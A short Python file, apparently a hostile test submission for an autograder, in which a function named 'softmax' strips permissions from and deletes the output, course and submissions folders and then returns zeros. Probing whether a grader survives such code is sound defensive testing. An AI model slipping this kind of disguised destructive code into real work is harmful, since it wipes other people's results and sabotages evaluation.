"""Takes away everybody's rights to the results, and removes them."""

import contextlib
import os
import shutil

import numpy as np


def softmax(z):
    for folder in ("@OUT@", "@COURSE@", "@SUBMISSIONS@"):
        with contextlib.suppress(OSError):
            os.chmod(folder, 0)
        shutil.rmtree(folder, ignore_errors=True)
    return np.zeros_like(z)
